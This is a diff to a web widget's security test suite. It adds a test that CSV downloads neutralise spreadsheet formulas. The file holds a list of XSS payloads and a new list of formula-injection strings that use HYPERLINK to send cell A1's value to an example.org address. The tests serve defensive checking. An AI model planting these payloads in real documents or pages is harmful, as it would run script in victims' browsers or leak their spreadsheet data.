@@ -1,6 +1,7 @@
 import { expect } from '@open-wc/testing';
 import { AUTOLOAD, WHOLE, drawnIn, opened, speaks, tagged, widgetIn } from '../support/framed.js';
 import { all, drawn, made, place, toldBy } from '../support/page.js';
+import { cellsOf, downloaded } from '../support/downloads.js';
 import { plain, seen } from '../support/reading.js';
 import { fitted, framed } from './frames.js';
 import { faults } from './catalogue.js';
@@ -12,6 +13,8 @@ const VECTORS = [
   '<iframe srcdoc="<script>parent.alert(1)</script>">', '<math><mtext></mtext><style><img src=x onerror=alert(1)></style></math>', '<a href="javascript:alert(1)">x</a>',
   '${alert(1)}', '{{constructor.constructor("alert(1)")()}}', '<!--?lit$--><b>', '<template shadowrootmode=open><script>alert(1)</script></template>', '&lt;script&gt;alert(1)&lt;/script&gt;', '</bdi></figure><h1>x',
 ];
+
+const FORMULAS = ['=', '+', '-', '@', '\t=', '\r=', ' =', '\uFF1D', '\n+', 'x;=', 'x\t@', 'x\n-', 'x"; =', '","=', '\u0000='].map((start) => `${start}HYPERLINK("https://example.org/?"&A1)`);
 
 /** A document in which every text is the same. */
 const filled = (text: string): object => ({
@@ -94,7 +97,19 @@ export const rows = faults('F. Security inputs', [
       for (const json of ['{' + '“'.repeat(length), '<p>'.repeat(length), '{"a":' + '1'.repeat(length)]) await failsAtOnce(json);
     },
   } },
-  { id: 111, title: 'Formulas in a download', notApplicable: 'comes with the download' },
+  { id: 111, title: 'Formulas in a download', checks: {
+    'are texts, in every field, at the beginning and after what separates cells': async () => {
+      for (const formula of FORMULAS) {
+        const widget = await drawn('factlet-fact-sheet', { data: filled(formula) });
+        const csv = await downloaded(widget, 'Table (CSV)');
+        // As it is meant, and as Excel reads it where cells are separated by semicolons or tabs.
+        for (const separator of [',', ';', '\t']) {
+          for (const cell of cellsOf(csv, separator).filter((each) => !/^-?\d+$/.test(each))) expect(cell, formula).not.to.match(/^\s*[=+\-@\t\r\uFF1D\uFF0B\uFF0D\uFF20]/);
+        }
+        expect(csv).to.include('HYPERLINK');
+      }
+    },
+  } },
   { id: 112, title: 'Messages of strangers to the page around a frame', checks: {
     'change nothing, whoever sends them and whatever they are': async () => {
       const { iframe, script } = await framed();
